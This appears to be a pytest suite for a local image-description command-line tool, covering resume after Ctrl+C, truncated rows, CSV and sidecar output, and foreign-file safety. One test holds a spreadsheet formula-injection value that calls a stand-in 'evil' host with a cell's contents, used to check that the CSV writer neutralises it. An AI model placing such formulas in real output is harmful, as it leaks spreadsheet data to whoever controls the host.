"""``localsight describe`` over a folder of 50 real images (some broken) with the tiny VLM.

Real llama.cpp, real files, a real SIGINT to a real process: the claims are "every image
gets exactly one row", "a re-run does no work", "Ctrl+C then re-run leaves no gap and no
duplicate", and "a kill in the middle of a write loses at most that row".
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from desktop_app.cli.app import main
from desktop_app.core.describe.output import (
    FIELDS,
    DescribeRow,
    OutputFileError,
    RowWriter,
    read_rows,
)

N_IMAGES = 50
BROKEN = ("truncated.jpg", "truncated.png", "notes-renamed.jpg", "empty.png", "zero.webp")


def _make_folder(folder: Path) -> Path:
    """45 valid images (one a byte-identical copy) and 5 broken ones: 50 files."""
    from PIL import Image

    folder.mkdir(parents=True)
    sub = folder / "sub"
    sub.mkdir()
    for index in range(N_IMAGES - len(BROKEN) - 1):
        image = Image.new("RGB", (24 + index, 16 + index % 7), (index * 5, 255 - index * 5, 90))
        target = (sub if index % 3 == 0 else folder) / f"img{index:02d}"
        if index % 2:
            image.save(target.with_suffix(".png"))
        else:
            image.save(target.with_suffix(".jpg"), quality=90)
    shutil.copy(folder / "img01.png", folder / "copy-of-img01.png")
    whole = io.BytesIO()
    Image.new("RGB", (300, 200), (10, 120, 200)).save(whole, "JPEG")
    (folder / "truncated.jpg").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 3])
    whole = io.BytesIO()
    Image.effect_noise((120, 120), 60).convert("RGB").save(whole, "PNG")
    (folder / "truncated.png").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
    (folder / "notes-renamed.jpg").write_text("shopping list: eggs, milk\n")
    (folder / "empty.png").write_bytes(b"")
    (folder / "zero.webp").write_bytes(b"\0" * 64)
    (folder / "readme.md").write_text("not an image extension: ignored\n")
    return folder


@pytest.fixture(scope="module")
def photo_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _make_folder(tmp_path_factory.mktemp("describe") / "photos")


def _model_args(tiny_vlm: tuple[Path, Path], max_tokens: int = 4) -> list[str]:
    return [
        "--model",
        str(tiny_vlm[0]),
        "--mmproj",
        str(tiny_vlm[1]),
        "--max-tokens",
        str(max_tokens),
        "--temperature",
        "0",
        "--seed",
        "1",
        "--no-progress",
    ]


def _jsonl(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _check_complete(rows: list[dict[str, object]], folder: Path) -> None:
    paths = [str(row["path"]) for row in rows]
    assert len(paths) == N_IMAGES, f"{len(paths)} rows"
    assert len(set(paths)) == N_IMAGES, "duplicate rows"
    errors = {Path(str(row["path"])).name for row in rows if row["error"]}
    assert errors == set(BROKEN)
    for row in rows:
        assert set(row) == set(FIELDS)
        if row["error"]:
            assert row["text"] == "" and row["width"] == 0
        else:
            assert row["text"] and int(str(row["width"])) > 0 and len(str(row["sha256"])) == 64


def test_describe_folder_then_rerun_does_no_work(
    photo_folder: Path,
    tmp_path: Path,
    tiny_vlm: tuple[Path, Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "out.jsonl"
    args = ["describe", str(photo_folder), "--recursive", "--out", str(out)]
    assert main([*args, *_model_args(tiny_vlm)]) == 0
    rows = _jsonl(out)
    _check_complete(rows, photo_folder)
    copy = next(r for r in rows if str(r["path"]).endswith("copy-of-img01.png"))
    original = next(r for r in rows if str(r["path"]).endswith("/img01.png"))
    assert copy["text"] == original["text"] and copy["sha256"] == original["sha256"]
    assert "1 copied from identical files" in capsys.readouterr().err  # not described twice

    before = out.read_bytes()
    started = time.perf_counter()
    assert main([*args, *_model_args(tiny_vlm)]) == 0
    assert out.read_bytes() == before, "a second run wrote rows"
    err = capsys.readouterr().err
    assert f"{N_IMAGES} already in" in err and "0 described" in err
    assert time.perf_counter() - started < 30

    # Without --recursive the sub folder's images are not part of the run.
    flat = tmp_path / "flat.jsonl"
    assert main(["describe", str(photo_folder), "--out", str(flat), *_model_args(tiny_vlm)]) == 0
    assert all("/sub/" not in str(row["path"]) for row in _jsonl(flat))


def test_sigint_finishes_the_row_and_rerun_fills_the_gap(
    photo_folder: Path, tmp_path: Path, tiny_vlm: tuple[Path, Path], localsight_home: Path
) -> None:
    out = tmp_path / "out.jsonl"
    command = [
        sys.executable,
        "-m",
        "desktop_app",
        "describe",
        str(photo_folder),
        "--recursive",
        "--out",
        str(out),
        *_model_args(tiny_vlm, max_tokens=48),
    ]
    env = {**os.environ, "LOCALSIGHT_HOME": str(localsight_home)}
    process = subprocess.Popen(
        command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and process.poll() is None:
        if out.exists() and out.read_text(encoding="utf-8").count("\n") >= 5:
            break
        time.sleep(0.05)
    assert process.poll() is None, "finished before it could be interrupted"
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    assert process.returncode == 130, err
    assert "Traceback" not in err and "stopped" in err
    first = _jsonl(out)  # every line is a whole row
    assert 5 <= len(first) < N_IMAGES

    rerun = subprocess.run(
        command, env=env, capture_output=True, text=True, timeout=300, check=False
    )
    assert rerun.returncode == 0, rerun.stderr
    rows = _jsonl(out)
    _check_complete(rows, photo_folder)
    assert rows[: len(first)] == first


def test_truncated_last_line_is_redone(
    photo_folder: Path, tmp_path: Path, tiny_vlm: tuple[Path, Path]
) -> None:
    """A kill in the middle of writing a row: the fragment is cut, that image redone."""
    out = tmp_path / "out.jsonl"
    args = ["describe", str(photo_folder), "-r", "--out", str(out), *_model_args(tiny_vlm)]
    assert main(args) == 0
    lines = out.read_text(encoding="utf-8").splitlines(keepends=True)
    out.write_text("".join(lines[:20]) + lines[20][:37], encoding="utf-8")
    assert main(args) == 0
    rows = _jsonl(out)
    _check_complete(rows, photo_folder)


def test_csv_with_sidecars(photo_folder: Path, tmp_path: Path, tiny_vlm: tuple[Path, Path]) -> None:
    folder = tmp_path / "photos"
    shutil.copytree(photo_folder, folder)
    out = tmp_path / "results.csv"
    args = ["describe", str(folder), "-r", "--out", str(out), "--sidecar", *_model_args(tiny_vlm)]
    assert main(args) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == FIELDS
        rows: list[dict[str, object]] = list(reader)
    for row in rows:
        row["width"] = int(str(row["width"]))
    _check_complete(rows, folder)
    for row in rows:
        sidecar = Path(str(row["path"]) + ".txt")
        if row["error"]:
            assert not sidecar.exists()
        else:
            assert sidecar.read_text(encoding="utf-8") == f"{row['text']}\n"
    assert not list(folder.rglob(".*.tmp")), "a temporary sidecar was left behind"

    # Resume works on CSV as well, and a deleted sidecar comes back without model work.
    first_ok = next(Path(str(r["path"])) for r in rows if not r["error"])
    Path(f"{first_ok}.txt").unlink()
    before = out.read_bytes()
    assert main(args) == 0
    assert out.read_bytes() == before
    assert Path(f"{first_ok}.txt").exists()


def test_missing_path_and_foreign_out_file_are_one_line(
    tmp_path: Path, tiny_vlm: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["describe", str(tmp_path / "nope"), *_model_args(tiny_vlm)]) == 1
    assert "does not exist" in capsys.readouterr().err
    foreign = tmp_path / "notes.jsonl"
    foreign.write_text('{"hello": 1}\n')
    (tmp_path / "a.png").write_bytes(b"")
    code = main(["describe", str(tmp_path), "--out", str(foreign), *_model_args(tiny_vlm)])
    assert code == 1
    assert "not a describe result file" in capsys.readouterr().err
    assert foreign.read_text() == '{"hello": 1}\n'


def _row(path: str, text: str = "a cat", error: str = "") -> DescribeRow:
    return DescribeRow(path, "ab" * 32, 10, 10, "m", "p", text, 0.5, error)


def test_csv_round_trip_defuses_formulas_and_cuts_fragments(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    writer = RowWriter(out, "csv")
    tricky = _row("/x/1.png", text='=HYPERLINK("http://evil/?"&A1)\nsecond "line", too')
    writer.write(tricky)
    writer.write(_row("/x/2.png", text="- a list item"))
    writer.close()
    raw = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and "'- a list" in raw
    assert read_rows(out, "csv") == [tricky, _row("/x/2.png", text="- a list item")]
    # Cut inside the multi-line quoted text of a third row: only that row is lost.
    with out.open("a", encoding="utf-8") as handle:
        handle.write('/x/3.png,abc,1,1,m,p,"first line\nsecond')
    assert [r.path for r in read_rows(out, "csv")] == ["/x/1.png", "/x/2.png"]
    assert out.read_text(encoding="utf-8") == raw


def test_jsonl_refuses_foreign_csv_header(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    out.write_text("name,age\nbob,3\n")
    with pytest.raises(OutputFileError):
        read_rows(out, "csv")
    assert out.read_text() == "name,age\nbob,3\n"


def test_foreign_fragment_is_never_truncated(tmp_path: Path) -> None:
    for fmt, name in (("csv", "a.csv"), ("jsonl", "a.jsonl")):
        out = tmp_path / name
        out.write_text("my precious notes, no newline")
        with pytest.raises(OutputFileError):
            read_rows(out, fmt)  # type: ignore[arg-type]
        assert out.read_text() == "my precious notes, no newline"
    ours = tmp_path / "b.jsonl"
    ours.write_text('{"path": "/x/1.pn')
    assert read_rows(ours, "jsonl") == [] and ours.read_bytes() == b""


def test_second_sigint_cancels_the_running_generation(
    photo_folder: Path, tmp_path: Path, tiny_vlm: tuple[Path, Path], localsight_home: Path
) -> None:
    """Long answers (1500 tokens each): the second Ctrl+C must not wait for one to end."""
    out = tmp_path / "out.jsonl"
    command = [
        sys.executable,
        "-m",
        "desktop_app",
        "describe",
        str(photo_folder),
        "--out",
        str(out),
        *_model_args(tiny_vlm, max_tokens=1500),
    ]
    env = {**os.environ, "LOCALSIGHT_HOME": str(localsight_home)}
    process = subprocess.Popen(
        command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not out.exists() and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.05)
    time.sleep(3.0)  # the model is loaded and generating the first long answer
    assert process.poll() is None
    process.send_signal(signal.SIGINT)
    time.sleep(0.3)
    stopped_at = time.monotonic()
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    assert process.returncode == 130, err
    assert time.monotonic() - stopped_at < 20, "the generation was not cancelled"
    assert "Traceback" not in err
    rows = _jsonl(out)  # whole rows only; the cancelled image has none
    assert len(rows) < N_IMAGES - len(BROKEN)


def test_a_ctrl_c_after_an_interrupted_run_ends_is_not_a_kill() -> None:
    """The race seen in CI: Ctrl+C twice, the current row finishes between the two, and the
    second one lands after the run; it must not meet Python's KeyboardInterrupt handler."""
    from desktop_app.cli.describe import _InterruptFlags

    original = signal.getsignal(signal.SIGINT)
    try:
        err = io.StringIO()
        with _InterruptFlags(err) as flags:
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(0.05)  # Python runs handlers between bytecodes of the main thread
            assert flags.stop.cancelled and not flags.cancel.cancelled
        assert signal.getsignal(signal.SIGINT) is signal.SIG_IGN  # survives finalization
        try:
            os.kill(os.getpid(), signal.SIGINT)  # after the run
            time.sleep(0.05)
        except KeyboardInterrupt:
            pytest.fail("a Ctrl+C after an interrupted run raised KeyboardInterrupt")
        assert "stopping after this image" in err.getvalue()
        # An uninterrupted run gives the previous handler back.
        signal.signal(signal.SIGINT, original)
        with _InterruptFlags(io.StringIO()):
            pass
        assert signal.getsignal(signal.SIGINT) is original
    finally:
        signal.signal(signal.SIGINT, original)
